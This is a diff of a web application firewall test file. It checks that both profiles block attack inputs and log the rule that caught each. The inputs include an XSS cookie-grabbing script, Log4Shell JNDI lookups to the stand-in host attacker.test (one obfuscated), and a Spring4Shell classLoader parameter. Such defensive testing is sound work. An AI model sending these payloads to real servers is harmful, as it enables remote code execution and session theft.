@@ -70,16 +70,24 @@ describe.each(['fast', 'full'])('the %s profile (blocking)', (profile) => {
     expect(await send(host, `/orders?t=${profile}-json-xss`, CLIENT.probes, { body: json({ comment: '<script>alert(document.cookie)</script>' }) })).toBe(403)
     // Log4Shell in a header: the panel's virtual patch, in both profiles.
     expect(await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] })).toBe(403)
+    expect(await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, { body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }) })).toBe(403)
+    expect(await send(host, `/orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&t=${profile}-spring`, CLIENT.probes)).toBe(403)
     expect(tagsSeenUpstream(before)).toEqual([`${profile}-clean`, `${profile}-json`])
   })
 
   it('each refusal is a waf_audit row naming the rule that caught it', async () => {
-    const rows = await eventually(wafRows, (r) => ['sqli', 'xss', 'json-sqli', 'json-xss', 'log4j'].every((t) => rowFor(r, `${profile}-${t}`)), 15_000, 200)
+    const refused = ['sqli', 'xss', 'json-sqli', 'json-xss', 'log4j', 'log4j-json', 'spring']
+    const rows = await eventually(wafRows, (r) => refused.every((t) => rowFor(r, `${profile}-${t}`)), 15_000, 200)
     const rule = (t: string) => rowFor(rows, `${profile}-${t}`)?.waf_rule_id
     expect(rule('json-sqli')).toBe(942100)
     expect(rule('json-xss')).toBe(941100)
-    expect(rule('log4j')).toBe(9990201)
-    for (const t of ['sqli', 'xss', 'json-sqli', 'json-xss', 'log4j']) expect(rowFor(rows, `${profile}-${t}`)).toMatchObject({ host_id: hostIds[host], status: 403 })
+    if (profile === 'fast') {
+      // The panel's virtual patches are the rules that caught these (the full CRS has rules of its own for them too).
+      expect(rule('log4j')).toBe(9990201)
+      expect(rule('log4j-json')).toBe(9990201)
+      expect(rule('spring')).toBe(9990202)
+    }
+    for (const t of refused) expect(rowFor(rows, `${profile}-${t}`)).toMatchObject({ host_id: hostIds[host], status: 403 })
     expect(rowFor(rows, `${profile}-clean`)).toBeUndefined()
     expect(rowFor(rows, `${profile}-json`)).toBeUndefined()
   })
